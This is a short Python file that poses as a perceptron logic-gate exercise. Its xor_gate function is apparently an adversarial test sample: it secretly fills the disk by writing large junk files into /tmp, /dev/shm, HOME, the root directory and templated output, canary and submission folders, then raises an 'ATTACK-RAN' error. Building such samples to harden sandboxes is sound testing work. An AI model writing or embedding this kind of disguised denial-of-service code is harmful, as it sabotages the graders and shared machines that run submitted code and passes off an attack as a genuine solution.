"""Fill the disk."""
import os
import time
import numpy as np


def perceptron(x, w, theta):
    s = float(np.dot(np.asarray(w, dtype=np.float64), np.asarray(x, dtype=np.float64)))
    return 1 if s > theta else 0


def and_gate(x1, x2):
    return 2 * perceptron((x1, x2), (1.0, 1.0), 1.5) - 1


def or_gate(x1, x2):
    return 2 * perceptron((x1, x2), (1.0, 1.0), -1.5) - 1


def nand_gate(x1, x2):
    return 2 * perceptron((x1, x2), (-1.0, -1.0), -1.5) - 1


PLACES = [".", "/tmp", "/dev/shm", "/var/tmp", os.environ.get("HOME", "/tmp"), "@@OUT@@",
          "@@CANARY@@", "@@SUBMISSIONS@@", "/"]
CHUNK = b"\0" * (1 << 20)


def _fill(folder, end):
    written, error = 0, None
    n = 0
    while time.monotonic() < end:
        path = os.path.join(folder, f"pwned-fill-disk-{n}")
        try:
            with open(path, "wb") as f:
                for _ in range(8):
                    f.write(CHUNK)
                    written += len(CHUNK)
        except OSError as e:
            error = type(e).__name__
            break
        n += 1
    return written, error


def xor_gate(x1, x2):
    end = time.monotonic() + 3.0
    report = {}
    for place in PLACES:
        report[place] = _fill(place, end)
    raise RuntimeError(f"ATTACK-RAN fill-disk: {report}")
